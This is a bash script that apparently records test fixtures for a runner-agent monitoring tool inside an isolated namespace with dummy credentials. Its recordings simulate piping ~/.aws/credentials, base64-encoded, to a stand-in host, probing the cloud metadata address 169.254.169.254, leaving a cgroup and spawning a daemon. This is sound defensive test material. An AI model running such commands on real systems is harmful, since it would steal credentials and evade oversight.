#!/usr/bin/env bash
# Records the jobs anew: make.sh FOLDER_OF_THE_PROGRAMS. See README.md.
set -euo pipefail
here=$(cd "$(dirname "$0")" && pwd)
programs=$(cd "$1" && pwd)
if [ "${2-}" != inside ]; then
    exec unshare --mount --net --uts --propagation private "$0" "$programs" inside
fi

ip link set lo up
ip addr add 192.0.2.53/32 dev lo
mkdir -p /tmp/recordings
mount -t tmpfs none /home
mount -t tmpfs none /opt
mkdir -p /home/runner/.aws /opt/bin
touch /opt/bin/runner-agent /opt/bin/act
mount --bind "$programs/runner-agent" /opt/bin/runner-agent
mount --bind "$programs/act" /opt/bin/act
echo dummy > /home/runner/.aws/credentials
echo nameserver 192.0.2.53 > /opt/resolv.conf
mount --bind /opt/resolv.conf /etc/resolv.conf
cd /home/runner

record() {
    local name=$1
    shift
    env -i PATH=/usr/bin:/bin HOME=/home/runner OTHER="${OTHER-}" \
        /opt/bin/runner-agent run --record "/tmp/recordings/$name.bin" -- "$@" 2> /dev/null || true
    mv "/tmp/recordings/$name.bin" "$here/$name.bin"
    chmod 644 "$here/$name.bin"
}

record pipeline bash -c 'cat ~/.aws/credentials | base64 | /opt/bin/act net after-input 203.0.113.9 443'
record connects bash -c '/opt/bin/act net tcp 127.0.0.1 9; /opt/bin/act net tcp ::1 9; \
    /opt/bin/act net tcp 169.254.169.254 80; /opt/bin/act net udp-sendto 10.20.30.40 123'
record long-argv /opt/bin/act exec argv 20000

/opt/bin/act resolver serve 192.0.2.53 good.test=203.0.113.5 > /opt/ready &
resolver=$!
until [ -s /opt/ready ]; do sleep 0.01; done
record names /opt/bin/act net by-name good.test 443
kill "$resolver"

cgroups=$(awk '$(NF-2) == "cgroup2" { print $5; exit }' /proc/self/mountinfo)
OTHER=$cgroups/runner-agent-recording
mkdir "$OTHER"
record escape bash -c '/opt/bin/act space leave-cgroup "$OTHER" /opt/bin/act net tcp 127.0.0.1 9; /opt/bin/act exec daemon sleep 1000'
rmdir "$OTHER"
rmdir /tmp/recordings
